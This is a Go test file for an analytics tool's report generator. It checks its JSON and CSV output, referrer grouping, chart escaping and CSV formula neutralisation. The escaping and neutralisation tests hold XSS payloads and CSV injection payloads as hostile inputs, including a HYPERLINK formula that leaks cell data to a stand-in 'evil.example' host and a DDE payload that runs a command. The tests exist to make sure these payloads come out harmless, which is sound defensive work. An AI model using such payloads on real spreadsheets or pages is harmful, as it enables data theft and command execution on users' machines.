package report

import (
	"bytes"
	"context"
	"encoding/csv"
	"encoding/json"
	"flag"
	"fmt"
	"os"
	"path/filepath"
	"slices"
	"strconv"
	"strings"
	"testing"

	"folio/analytics/store"
)

var update = flag.Bool("update", false, "rewrite the golden files in testdata/")

// golden compares got with testdata/golden/name byte for byte, or rewrites
// the file with -update.
func golden(t *testing.T, name string, got []byte) {
	t.Helper()
	path := filepath.Join("testdata", "golden", name)
	if *update {
		if err := os.MkdirAll(filepath.Dir(path), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(path, got, 0o644); err != nil {
			t.Fatal(err)
		}
		return
	}
	want, err := os.ReadFile(path)
	if err != nil {
		t.Fatalf("%v (run go test ./analytics/report -update to create it)", err)
	}
	if !bytes.Equal(got, want) {
		t.Errorf("%s differs from the golden file; run with -update if the change is meant:\n%s", name, firstDiff(got, want))
	}
}

func firstDiff(got, want []byte) string {
	g, w := strings.Split(string(got), "\n"), strings.Split(string(want), "\n")
	for i := 0; i < len(g) || i < len(w); i++ {
		var a, b string
		if i < len(g) {
			a = g[i]
		}
		if i < len(w) {
			b = w[i]
		}
		if a != b {
			return fmt.Sprintf("line %d:\n got: %s\nwant: %s", i+1, a, b)
		}
	}
	return "(same lines, different bytes)"
}

func fixtureReport(t testing.TB) *Report {
	t.Helper()
	r, err := Generate(context.Background(), sqliteStore(t, fixtureBatch()), fixtureOptions())
	if err != nil {
		t.Fatal(err)
	}
	return r
}

// charts joins every chart of a report, as the page shows them.
func charts(r *Report) []byte {
	var b strings.Builder
	b.WriteString(string(r.ViewsChart()) + "\n" + string(r.VisitorsChart()) + "\n")
	for _, t := range r.Tables() {
		b.WriteString(string(t.Chart()) + "\n")
	}
	return []byte(b.String())
}

func TestGolden(t *testing.T) {
	r := fixtureReport(t)
	files, err := r.Files()
	if err != nil {
		t.Fatal(err)
	}
	for _, f := range files {
		golden(t, f.Name, f.Data)
	}
	golden(t, "charts.svg.html", charts(r))
}

func TestDeterministic(t *testing.T) {
	// Two stores filled from maps (whose order Go randomises), read twice.
	a, b := fixtureReport(t), fixtureReport(t)
	fa, err := a.Files()
	if err != nil {
		t.Fatal(err)
	}
	fb, err := b.Files()
	if err != nil {
		t.Fatal(err)
	}
	for i := range fa {
		if !bytes.Equal(fa[i].Data, fb[i].Data) {
			t.Errorf("%s differs between two runs on the same data", fa[i].Name)
		}
	}
	if !bytes.Equal(charts(a), charts(b)) {
		t.Error("charts differ between two runs on the same data")
	}
}

func rowCount(tb *Table, value string) (Count, bool) {
	for _, r := range tb.Rows {
		if r.Value == value {
			return r.Count, true
		}
	}
	return 0, false
}

func TestEmpty(t *testing.T) {
	for name, st := range map[string]store.Store{"nil": nil, "empty SQLite": sqliteStore(t, nil)} {
		t.Run(name, func(t *testing.T) {
			r, err := Generate(context.Background(), st, fixtureOptions())
			if err != nil {
				t.Fatal(err)
			}
			if r.HasData {
				t.Error("HasData = true for an empty store")
			}
			for _, tb := range r.Tables() {
				if len(tb.Rows) != 0 || tb.Total != 0 {
					t.Errorf("%s has rows in an empty store", tb.Name)
				}
			}
			js, err := r.JSON()
			if err != nil {
				t.Fatal(err)
			}
			if bytes.Contains(js, []byte("null,")) && !bytes.Contains(js, []byte(`"change_percent": null`)) {
				t.Errorf("report.json of an empty store has a null list:\n%s", js)
			}
			_ = r.ViewsChart() // must not divide by zero
			for _, tb := range r.Tables() {
				_ = tb.Chart()
			}
		})
	}
}

func TestJSONShape(t *testing.T) {
	js, err := fixtureReport(t).JSON()
	if err != nil {
		t.Fatal(err)
	}
	var doc map[string]any
	if err := json.Unmarshal(js, &doc); err != nil {
		t.Fatal(err)
	}
	keys := func(v any) []string {
		m, ok := v.(map[string]any)
		if !ok {
			t.Fatalf("%v is not an object", v)
		}
		var ks []string
		for k := range m {
			ks = append(ks, k)
		}
		slices.Sort(ks)
		return ks
	}
	check := func(what string, v any, want ...string) {
		t.Helper()
		slices.Sort(want)
		if got := keys(v); !slices.Equal(got, want) {
			t.Errorf("%s has fields %v, want %v", what, got, want)
		}
	}
	tables := []string{"pages", "referrer_groups", "referrers", "sources", "mediums", "campaigns", "outbound", "downloads", "events",
		"browsers", "os", "devices", "languages", "countries", "not_found", "filtered"}
	// The fixture has no campaigns, events or missing pages.
	empty := []string{"sources", "mediums", "campaigns", "outbound", "downloads", "events", "not_found"}
	check("report.json", doc, append([]string{"format", "private", "period", "previous_period", "k", "has_data", "partial",
		"next_cell", "country_lookup", "totals", "daily", "cells"}, tables...)...)
	check("period", doc["period"], "from", "to", "cell", "cells", "days")
	check("previous_period", doc["previous_period"], "from", "to", "cell", "cells", "days")
	check("totals", doc["totals"], "views", "visitors", "filtered")
	check("totals.views", doc["totals"].(map[string]any)["views"], "value", "previous", "change_percent")
	check("daily[0]", doc["daily"].([]any)[0], "date", "views", "visitors")
	check("cells[0]", doc["cells"].([]any)[0], "cell", "from", "to", "views", "visitors")
	for _, name := range tables {
		check(name, doc[name], "unit", "total", "rows", "folded")
		check(name+".folded", doc[name].(map[string]any)["folded"], "under_k", "capped")
		rows := doc[name].(map[string]any)["rows"].([]any)
		if len(rows) == 0 {
			if !slices.Contains(empty, name) {
				t.Errorf("%s has no rows in the fixture", name)
			}
			continue
		}
		want := []string{"value", "label", "count", "visitors", "other"}
		if name == "referrers" || name == "referrer_groups" {
			want = append(want, "group")
		}
		check(name+".rows[0]", rows[0], want...)
	}
	if doc["k"] != float64(fixtureK) || doc["format"] != float64(Format) {
		t.Errorf("k = %v, format = %v; want %d, %d", doc["k"], doc["format"], fixtureK, Format)
	}
}

func TestCSVShape(t *testing.T) {
	r := fixtureReport(t)
	files, err := r.Files()
	if err != nil {
		t.Fatal(err)
	}
	v := ",views,daily_visitors_added_up,other"
	e := ",events,daily_visitors_added_up,other"
	headers := map[string]string{
		"totals.csv":          "metric,value,previous,change_percent",
		"daily.csv":           "date,views,visitors",
		"cells.csv":           "cell,from,to,views,visitors",
		"pages.csv":           "path,label" + v,
		"referrer-groups.csv": "group,label" + v,
		"referrers.csv":       "host,label,group,source" + v,
		"sources.csv":         "source,label" + v,
		"mediums.csv":         "medium,label" + v,
		"campaigns.csv":       "campaign,label" + v,
		"outbound.csv":        "host,label" + e,
		"downloads.csv":       "path,label" + e,
		"events.csv":          "event,label" + e,
		"browsers.csv":        "browser,label" + v,
		"os.csv":              "os,label" + v,
		"devices.csv":         "device,label" + v,
		"languages.csv":       "language,label" + v,
		"countries.csv":       "country,label" + v,
		"not-found.csv":       "path,label" + v,
		"filtered.csv":        "reason,label" + e,
	}
	rowsWant := map[string]int{"totals.csv": 3, "daily.csv": 28, "cells.csv": 4}
	for _, tb := range r.Tables() {
		rowsWant[tb.CSV()] = len(tb.Rows)
	}
	seen := map[string]bool{}
	for _, f := range files {
		if f.Name == "report.json" {
			continue
		}
		seen[f.Name] = true
		recs, err := csv.NewReader(bytes.NewReader(f.Data)).ReadAll()
		if err != nil {
			t.Errorf("%s: %v", f.Name, err)
			continue
		}
		if got := strings.Join(recs[0], ","); got != headers[f.Name] {
			t.Errorf("%s header = %q, want %q", f.Name, got, headers[f.Name])
		}
		if got := len(recs) - 1; got != rowsWant[f.Name] {
			t.Errorf("%s has %d rows, want %d", f.Name, got, rowsWant[f.Name])
		}
	}
	for name := range headers {
		if !seen[name] {
			t.Errorf("no %s", name)
		}
	}
}

func TestReferrerGroup(t *testing.T) {
	tests := []struct {
		value, group, source string
	}{
		{"(direct)", GroupDirect, ""},
		{"(internal)", GroupInternal, ""},
		{"(private)", GroupPrivate, ""},
		// Every Google host is Google: the list's country domains,
		// its news and image search, and the Google app on Android.
		{"google.com", GroupSearch, "Google"},
		{"google.de", GroupSearch, "Google"},
		{"google.co.uk", GroupSearch, "Google"},
		{"google.com.br", GroupSearch, "Google"},
		{"news.google.com", GroupSearch, "Google"},
		{"images.google.fr", GroupSearch, "Google"},
		{"android-app:com.google.android.googlequicksearchbox", GroupSearch, "Google"},
		{"bing.com", GroupSearch, "Bing"},
		{"cn.bing.com", GroupSearch, "Bing"},
		{"duckduckgo.com", GroupSearch, "DuckDuckGo"},
		{"yandex.ru", GroupSearch, "Yandex"},
		{"yandex.com.tr", GroupSearch, "Yandex"},
		{"r.search.yahoo.com", GroupSearch, "Yahoo!"},
		{"ecosia.org", GroupSearch, "Ecosia"},
		// Social networks, with their subdomains: the link shims of
		// Facebook and its app on Android, old.reddit.com, m.youtube.com.
		{"facebook.com", GroupSocial, "Facebook"},
		{"m.facebook.com", GroupSocial, "Facebook"},
		{"l.facebook.com", GroupSocial, "Facebook"},
		{"lm.facebook.com", GroupSocial, "Facebook"},
		{"android-app:m.facebook.com", GroupSocial, "Facebook"},
		{"t.co", GroupSocial, "Twitter"},
		{"news.ycombinator.com", GroupSocial, "Hacker News"},
		{"old.reddit.com", GroupSocial, "reddit"},
		{"m.youtube.com", GroupSocial, "YouTube"},
		{"github.com", GroupSocial, "GitHub"},
		{"android-app:org.telegram.messenger", GroupSocial, "Telegram"},
		{"android-app:com.linkedin.android", GroupSocial, "LinkedIn"},
		{"plus.google.com", GroupSocial, "Google+"},
		{"chatgpt.com", GroupAI, "ChatGPT"},
		{"perplexity.ai", GroupAI, "Perplexity"},
		{"gemini.google.com", GroupAI, "Gemini"},
		// An app the list does not know is still an app, by its name.
		{"android-app:com.google.android.gm", GroupApp, ""},
		{"android-app:com.slack", GroupApp, ""},
		{"example.org", GroupWebsites, ""},
		{"notgoogle.com", GroupWebsites, ""},
		{"google.github.io", GroupWebsites, ""},
		{"docs.google.com", GroupWebsites, ""},
		// Folio's supplement to the lists: newer search engines and
		// networks, Mastodon's big servers and its usual host names, iOS
		// apps by App Store id.
		{"x.com", GroupSocial, "Twitter"},
		{"search.brave.com", GroupSearch, "Brave"},
		{"brave.com", GroupWebsites, ""},
		{"kagi.com", GroupSearch, "Kagi"},
		{"mojeek.com", GroupSearch, "Mojeek"},
		{"mojeek.co.uk", GroupSearch, "Mojeek"},
		{"bsky.app", GroupSocial, "Bluesky"},
		{"go.bsky.app", GroupSocial, "Bluesky"},
		{"android-app:xyz.blueskyweb.app", GroupSocial, "Bluesky"},
		{"mastodon.social", GroupSocial, "Mastodon"},
		{"fosstodon.org", GroupSocial, "Mastodon"},
		{"hachyderm.io", GroupSocial, "Mastodon"},
		{"mastodon.scot", GroupSocial, "Mastodon"},
		{"mstdn.ca", GroupSocial, "Mastodon"},
		{"mastodonfan.example", GroupWebsites, ""},
		{"threads.net", GroupSocial, "Threads"},
		{"l.threads.com", GroupSocial, "Threads"},
		{"ios-app:284882215", GroupSocial, "Facebook"},
		{"ios-app:284815942", GroupSearch, "Google"},
		{"ios-app:6444370199", GroupSocial, "Bluesky"},
		{"ios-app:422689480", GroupApp, ""},
		{"ios-app:google.com", GroupApp, ""}, // an id, never a host
		{"thefacebook.com", GroupWebsites, ""},
		{"facebook.com.evil.example", GroupWebsites, ""},
	}
	for _, tt := range tests {
		if g, s := referrerGroup(tt.value); g != tt.group || s != tt.source {
			t.Errorf("referrerGroup(%q) = %q, %q, want %q, %q", tt.value, g, s, tt.group, tt.source)
		}
	}
}

func TestReferrerLabels(t *testing.T) {
	for _, tt := range []struct{ table, value, want string }{
		{"referrers", "google.de", "google.de"},
		{"referrers", "android-app:com.google.android.gm", "com.google.android.gm (Android app)"},
		{"referrers", "(direct)", "Direct (no referrer)"},
		{"referrer_groups", "Google", "Google"},
		{"referrer_groups", "(websites)", "Other websites"},
		{"referrer_groups", "(apps)", "Other apps"},
		{"referrers", "ios-app:422689480", "422689480 (iOS app)"},
		{"referrer_groups", "(direct)", "Direct (no referrer)"},
	} {
		if got := label(tt.table, tt.value); got != tt.want {
			t.Errorf("label(%q, %q) = %q, want %q", tt.table, tt.value, got, tt.want)
		}
	}
}

// TestSourceLists checks that the embedded lists load and hold what the
// groups above rely on, so a newer copy that breaks them is noticed.
func TestSourceLists(t *testing.T) {
	list := sources()
	if len(list.exact) < 500 {
		t.Fatalf("the lists give %d hosts, want hundreds", len(list.exact))
	}
	for key, s := range list.exact {
		if key == "" || strings.ContainsAny(key, "/ ") || key != strings.ToLower(key) || strings.HasPrefix(key, "www.") {
			t.Errorf("host %q (%s) is not a lower-case host", key, s.name)
		}
		if s.name == "" || strings.Contains(s.name, "%") {
			t.Errorf("host %q has the name %q", key, s.name)
		}
	}
}

func TestChartsEscape(t *testing.T) {
	b := newBatch()
	evil := `/"><script>alert(1)</script>`
	host := `x"><svg onload=alert(1)>.example`
	spread(fixtureStart, 70, func(day string, n int64) {
		b.Views[store.ViewKey{Day: day, Path: evil}] += n
		b.ViewVisitors[store.ViewKey{Day: day, Path: evil}] += n
		b.Dims[store.DimKey{Day: day, Dim: "referrer", Value: host}] += n
		b.DimVisitors[store.DimKey{Day: day, Dim: "referrer", Value: host}] += n
	})
	r := memReport(t, b, fixtureOptions())
	out := string(charts(r))
	for _, bad := range []string{"<script", "<svg onload", evil, host} {
		if strings.Contains(out, bad) {
			t.Errorf("charts contain %q unescaped", bad)
		}
	}
	if strings.Contains(out, "style=") {
		t.Error("charts use a style attribute, which a strict CSP blocks")
	}
	if !strings.Contains(out, "&lt;script&gt;") {
		t.Error("the escaped path is missing from the pages chart")
	}
}

func TestWriteFiles(t *testing.T) {
	r := fixtureReport(t)
	parent := t.TempDir()
	dir := filepath.Join(parent, "stats")
	if err := os.MkdirAll(dir, 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(filepath.Join(dir, "stale.csv"), []byte("old"), 0o644); err != nil {
		t.Fatal(err)
	}
	if err := WriteFiles(dir, r, []byte("<!doctype html>")); err != nil {
		t.Fatal(err)
	}
	for _, name := range []string{"index.html", "report.json", "pages.csv", "daily.csv"} {
		if _, err := os.Stat(filepath.Join(dir, name)); err != nil {
			t.Errorf("after WriteFiles: %v", err)
		}
	}
	if _, err := os.Stat(filepath.Join(dir, "stale.csv")); err == nil {
		t.Error("a file of the previous report is still there")
	}
	entries, err := os.ReadDir(parent)
	if err != nil {
		t.Fatal(err)
	}
	if len(entries) != 1 {
		t.Errorf("parent folder holds %d entries, want only stats/ (no temporary folders left)", len(entries))
	}
	fi, err := os.Stat(dir)
	if err != nil {
		t.Fatal(err)
	}
	if fi.Mode().Perm() != 0o755 {
		t.Errorf("report folder mode %v, want 0755", fi.Mode().Perm())
	}

	// A report that cannot be written leaves the previous one alone.
	blocked := filepath.Join(parent, "file")
	if err := os.WriteFile(blocked, nil, 0o644); err != nil {
		t.Fatal(err)
	}
	if err := WriteFiles(filepath.Join(blocked, "stats"), r, nil); err == nil {
		t.Error("WriteFiles under a file succeeded")
	}
}

func TestCountString(t *testing.T) {
	for n, want := range map[Count]string{0: "0", 999: "999", 1000: "1,000", 1234567: "1,234,567", -12345: "-12,345"} {
		if got := n.String(); got != want {
			t.Errorf("Count(%d).String() = %q, want %q", int64(n), got, want)
		}
	}
}

func TestNiceMax(t *testing.T) {
	tests := []struct{ peak, top, step int64 }{
		{0, 4, 1}, {3, 4, 1}, {7, 8, 2}, {60, 60, 20}, {61, 80, 20}, {98, 100, 25}, {1234, 1500, 500},
	}
	for _, tt := range tests {
		top, step := niceMax(tt.peak)
		if top != tt.top || step != tt.step {
			t.Errorf("niceMax(%d) = %d, %d; want %d, %d", tt.peak, top, step, tt.top, tt.step)
		}
		if top < tt.peak || top/step > 5 {
			t.Errorf("niceMax(%d) = %d, %d: below the peak or more than five steps", tt.peak, top, step)
		}
	}
}

// TestCSVNeutralisesFormulas: a spreadsheet runs a cell that starts with
// =, +, -, @, a tab or a carriage return as a formula. Page titles, paths
// and referrer hosts come from outside, so every such text cell of every
// CSV file is prefixed with a single quote (OWASP's advice); numbers,
// negative ones too, stay numbers.
func TestCSVNeutralisesFormulas(t *testing.T) {
	evil := []string{
		`=HYPERLINK("http://evil.example/?"&A1)`, `+1+cmd|' /C calc'!A0`, `-2+3`, `@SUM(A1:A9)`,
		"\t=1+1", "\r=1+1",
	}
	titles := map[string]string{}
	b := newBatch()
	for i, e := range evil {
		path := fmt.Sprintf("/evil-%d/", i)
		titles[path] = e
		// Each view from a reader of its own, so every value reaches k
		// distinct visitors and is published, where the CSV shows it.
		spread(fixtureStart, 70, func(day string, n int64) {
			vk := store.ViewKey{Day: day, Path: path}
			rk := store.DimKey{Day: day, Dim: "referrer", Value: e}
			lk := store.DimKey{Day: day, Dim: "language", Value: e}
			b.Views[vk] += n
			b.ViewVisitors[vk] += n
			b.Dims[rk] += n
			b.DimVisitors[rk] += n
			b.Dims[lk] += n
			b.DimVisitors[lk] += n
		})
	}
	// Fewer views than the period before: a negative change, a number.
	for w := -4; w < 0; w++ {
		spread(fixtureStart.AddDate(0, 0, 7*w), 1000, func(day string, n int64) {
			b.Views[store.ViewKey{Day: day, Path: "/"}] += n
		})
	}
	st := &memStore{}
	if err := st.Add(context.Background(), b); err != nil {
		t.Fatal(err)
	}
	opts := fixtureOptions()
	opts.Title = func(path string) (string, bool) { t, ok := titles[path]; return t, ok }
	r, err := Generate(context.Background(), st, opts)
	if err != nil {
		t.Fatal(err)
	}
	files, err := r.Files()
	if err != nil {
		t.Fatal(err)
	}
	found := map[string]bool{}
	negative := false
	for _, f := range files {
		if !strings.HasSuffix(f.Name, ".csv") {
			continue
		}
		recs, err := csv.NewReader(bytes.NewReader(f.Data)).ReadAll()
		if err != nil {
			t.Fatalf("%s: %v", f.Name, err)
		}
		for _, rec := range recs {
			for _, cell := range rec {
				if cell == "" {
					continue
				}
				if _, err := strconv.ParseFloat(cell, 64); err == nil {
					negative = negative || cell[0] == '-'
					continue
				}
				if strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
					t.Errorf("%s: cell %q starts a formula", f.Name, cell)
				}
				if e, ok := strings.CutPrefix(cell, "'"); ok && slices.Contains(evil, e) {
					found[f.Name] = true
				}
			}
		}
	}
	for _, name := range []string{"pages.csv", "referrers.csv", "languages.csv"} {
		if !found[name] {
			t.Errorf("%s holds none of the hostile values, quoted: the test proves nothing there", name)
		}
	}
	if !negative {
		t.Error("no negative number in any CSV file: the test does not show that numbers stay numbers")
	}
}

func TestNeutralise(t *testing.T) {
	for in, want := range map[string]string{
		"": "", "/docs/": "/docs/", "Install Folio": "Install Folio", "12": "12", "-12.5": "-12.5", "0.0": "0.0",
		"-": "'-", "-.5": "'-.5", "-1.": "'-1.", "-1-1": "'-1-1", "+1": "'+1", "=1": "'=1", "@x": "'@x",
		"\tx": "'\tx", "\rx": "'\rx", "'=1": "'=1", " =1": " =1",
	} {
		if got := neutralise(in); got != want {
			t.Errorf("neutralise(%q) = %q, want %q", in, got, want)
		}
	}
}

// TestReferrersCSVSource: referrers.csv names each host's group and
// source, for web hosts and for apps of both kinds.
func TestReferrersCSVSource(t *testing.T) {
	b := newBatch()
	for _, ref := range []string{"google.de", "ios-app:284882215", "android-app:org.telegram.messenger", "ios-app:422689480", "mastodon.scot", "example.org"} {
		spread(fixtureStart, 70, func(day string, n int64) {
			k := store.DimKey{Day: day, Dim: "referrer", Value: ref}
			b.Dims[k] += n
			b.DimVisitors[k] += n
		})
	}
	r := memReport(t, b, fixtureOptions())
	files, err := r.Files()
	if err != nil {
		t.Fatal(err)
	}
	i := slices.IndexFunc(files, func(f File) bool { return f.Name == "referrers.csv" })
	recs, err := csv.NewReader(bytes.NewReader(files[i].Data)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	got := map[string]string{}
	for _, rec := range recs[1:] {
		got[rec[0]] = strings.Join(rec[1:4], ",")
	}
	want := map[string]string{
		"google.de":                          "google.de,search,Google",
		"ios-app:284882215":                  "284882215 (iOS app),social,Facebook",
		"android-app:org.telegram.messenger": "org.telegram.messenger (Android app),social,Telegram",
		"ios-app:422689480":                  "422689480 (iOS app),app,",
		"mastodon.scot":                      "mastodon.scot,social,Mastodon",
		"example.org":                        "example.org,websites,",
	}
	for host, w := range want {
		if got[host] != w {
			t.Errorf("referrers.csv %s: label,group,source = %q, want %q", host, got[host], w)
		}
	}
}
